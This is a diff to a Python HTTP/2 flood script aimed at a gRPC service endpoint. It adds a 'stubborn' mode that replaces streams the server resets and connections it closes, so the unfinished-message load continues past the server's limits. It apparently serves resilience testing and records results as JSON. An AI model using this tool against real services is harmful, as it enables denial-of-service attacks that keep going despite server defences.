@@ -10,9 +10,11 @@ server reset or ended, connections it closed. Standard library only (raw frames,
 With POLITE=1 it opens its streams only after the server's SETTINGS (acknowledged), as a real
 client does: gRPC enforces SETTINGS_MAX_CONCURRENT_STREAMS only from the acknowledgement on.
 
-With ENOUGH (bytes) it stops as soon as it has sent that much in all, HOLD at the latest.
+With ENOUGH (bytes) it stops as soon as it has sent that much in all, HOLD at the latest. With
+RENEW=1 it is stubborn: a stream the server resets is replaced by a new one, a connection it closes
+by a new connection (the counts then add up over all of them).
 
-usage: h2_flood.py HOST PORT CONNS STREAMS DECLARED SEND HOLD [PATH] [POLITE] [ENOUGH]
+usage: h2_flood.py HOST PORT CONNS STREAMS DECLARED SEND HOLD [PATH] [POLITE] [ENOUGH] [RENEW]
 """
 import json
 import selectors
@@ -64,6 +66,8 @@ class Conn:
             + hpack_literal("te", "trailers")
         )
         self.opening = [(1 + 2 * i, block, send) for i in range(streams)]
+        self.block, self.send, self.next_sid = block, send, 1 + 2 * streams
+        self.renewed = 0
         self.prefixed = set()
         self.prefix = b"\x00" + struct.pack(">I", declared)
         if not polite:
@@ -76,13 +80,18 @@ class Conn:
             self.left[sid] = send
         self.opening = []
 
-    def pump_data(self):
+    def pump_data(self, renew):
         # Queue DATA frames within the windows (never END_STREAM: the message never finishes).
         if self.closed or self.goaway:
             return
         for sid in list(self.left):
             if sid in self.dead:
                 del self.left[sid]
+                if renew and self.next_sid < 1 << 30:
+                    self.opening = [(self.next_sid, self.block, self.send)]
+                    self.next_sid += 2
+                    self.renewed += 1
+                    self.open_streams()
                 continue
             while self.left[sid] > 0 and self.conn_window > 0 and self.windows[sid] > 0 and len(self.out) < 1 << 20:
                 n = min(MAX_FRAME, self.left[sid], self.conn_window, self.windows[sid])
@@ -160,22 +169,31 @@ def main():
     path = sys.argv[8] if len(sys.argv) > 8 else "/loket.v1.CaseService/AttachDocument"
     polite = len(sys.argv) > 9 and sys.argv[9] == "1"
     enough = int(sys.argv[10]) if len(sys.argv) > 10 else 0
+    renew = len(sys.argv) > 11 and sys.argv[11] == "1"
     port, conns, streams, declared, send, hold = int(port), int(conns), int(streams), int(declared), int(send), float(hold)
     sel = selectors.DefaultSelector()
     cs = []
     refused = 0
-    for _ in range(conns):
+
+    def connect():
+        nonlocal refused
         try:
             c = Conn(host, port, streams, path, declared, send, polite)
         except OSError:
             refused += 1
-            continue
+            return
         cs.append(c)
         sel.register(c.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, c)
+
+    for _ in range(conns):
+        connect()
     end = time.monotonic() + hold
     while time.monotonic() < end:
+        if renew:
+            for _ in range(conns - sum(1 for c in cs if not c.closed)):
+                connect()
         for c in cs:
-            c.pump_data()
+            c.pump_data(renew)
             if not c.closed:
                 events = selectors.EVENT_READ | (selectors.EVENT_WRITE if c.out else 0)
                 sel.modify(c.sock, events, c)
@@ -197,6 +215,8 @@ def main():
         "closed_by_server": sum(1 for c in cs if c.closed),
         "goaway": sum(1 for c in cs if c.goaway),
         "streams": conns * streams,
+        "connections_opened": len(cs),
+        "streams_renewed": sum(c.renewed for c in cs),
         "streams_ended_by_server": sum(len(c.dead) for c in cs),
         "bytes_sent": sum(c.sent for c in cs),
     }
